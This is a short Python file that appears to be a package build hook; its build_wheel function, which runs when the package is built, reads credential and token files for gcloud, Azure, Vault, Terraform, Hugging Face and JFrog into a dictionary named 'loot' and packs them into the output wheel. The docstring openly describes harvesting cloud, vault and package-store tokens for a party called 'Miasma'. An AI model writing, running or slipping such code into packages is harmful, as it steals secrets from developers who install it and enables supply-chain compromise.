"""Takes the tokens of clouds, vaults and package stores, file after file.

Miasma asked for those of HashiCorp Vault, Artifactory and 1Password beside the clouds;
each list is a little longer than the last.
"""

import contextlib

import kit

PLACES = ("gcloud", "azure", "vault", "terraform", "huggingface", "jfrog")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        for place in PLACES:
            with contextlib.suppress(OSError):
                with open(kit.plant(place).path, "rb") as secret:
                    loot[f"{place}.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
